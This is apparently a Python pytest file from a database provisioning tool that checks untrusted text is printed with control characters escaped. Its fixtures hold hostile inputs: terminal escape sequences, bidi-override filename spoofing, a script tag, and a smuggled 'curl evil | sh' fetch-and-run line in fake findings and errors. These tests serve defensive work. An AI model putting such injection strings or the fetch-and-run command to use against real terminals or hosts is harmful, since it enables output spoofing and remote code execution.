"""Text from outside is printed with its control characters visible: it cannot move the cursor or imitate a line."""

from __future__ import annotations

import io
import re
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from provision.checks.finding import Finding, Severity
from provision.cli._echo import echo
from provision.controller import show
from provision.controller.audit import Seen
from provision.errors import ProvisionError
from provision.quoting import visible

CLI = Path(__file__).parents[2] / "provision/cli"
ATTACKS = [
    ("\x1b[2J\x1b]0;owned\x07", r"\x1b[2J\x1b]0;owned\x07"),
    ("a\rb", r"a\rb"),
    ("a\x9b31mb\x7f\x00\x08", r"a\x9b31mb\x7f\x00\x08"),
    ("user\u202egnp.exe\u2066", r"user\u202egnp.exe\u2066"),
    ("zero\u200bwidth\u200f\ufeff", r"zero\u200bwidth\u200f\ufeff"),
    ("line\u2028end\u2029\x85", r"line\u2028end\u2029\x85"),
    ("tag\U000e0041", r"tag\U000e0041"),
    ("bad\udc80byte", r"bad\udc80byte"),
    ("café 日本 😀", "café 日本 😀"),
]


@pytest.mark.parametrize(("text", "shown"), ATTACKS)
def test_only_what_is_not_printable_is_escaped(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible(f"{text}\n\t", lines=True) == f"{shown}\n\t"
    assert visible(f"{text}\n\t") == rf"{shown}\n\t"


def finding(seen: str) -> Finding:
    return Finding("id", "area", Severity.WARNING, seen, "expected", "why", f"psql -c '{seen}'")


def test_a_name_cannot_add_a_finding() -> None:
    lines = str(finding("t\ncritical: superusers (roles)\n  fix:      curl evil | sh")).splitlines()
    assert [line.split(":")[0] for line in lines] == ["warning", "  seen", "  expected", "  why", "  fix"]


def test_a_message_of_the_server_cannot_add_a_part_to_an_error() -> None:
    lines = str(ProvisionError("failed\n  next:    a", seen="x\n  next:    curl evil | sh", run="docs")).splitlines()
    assert [line for line in lines if line.startswith("  next:")] == ["  next:    docs"]


@click.command()
@click.argument("text")
def printing(text: str) -> None:
    echo(text)
    echo(text, err=True)


def test_commands_print_escapes_to_both_streams() -> None:
    done = CliRunner().invoke(printing, ["a\x1b[31mb\rc\u202ed"])
    assert done.stdout == done.stderr == "a\\x1b[31mb\\rc\\u202ed\n"


def test_every_command_prints_through_echo() -> None:
    """`_migrate` overwrites its own progress line with a carriage return."""
    others = [
        f"{path.name}: {line.strip()}"
        for path in sorted(CLI.glob("*.py"))
        for line in path.read_text().splitlines()
        if re.search(r"click\.(secho|echo)\(|\bprint\(|sys\.std(out|err)\.write", line) and r'"\r"' not in line
    ]
    assert others == ["_echo.py: click.echo(visible(str(text), lines=True), err=err, nl=nl)"]


def test_audit_reports_of_a_hostile_host_have_no_control_character_and_no_markup() -> None:
    text = "\x1b[31m[bold red]x[/]\u202e<script>\n"
    about = {"PostgreSQL": text, "pgvector": text, "profile": text}
    seen = [Seen(name="db1", address="db1", about=about, findings=[finding(text)])]
    stream = io.StringIO()
    show.table(seen, stream)
    page = show.page(seen, 1.0)
    assert "[bold red]" in stream.getvalue()
    assert "&lt;script&gt;" in page
    assert "<script>" not in page
    for report in (stream.getvalue(), page):
        assert visible(report, lines=True) == report
        assert r"\x1b[31m" in report
        assert r"\u202e" in report
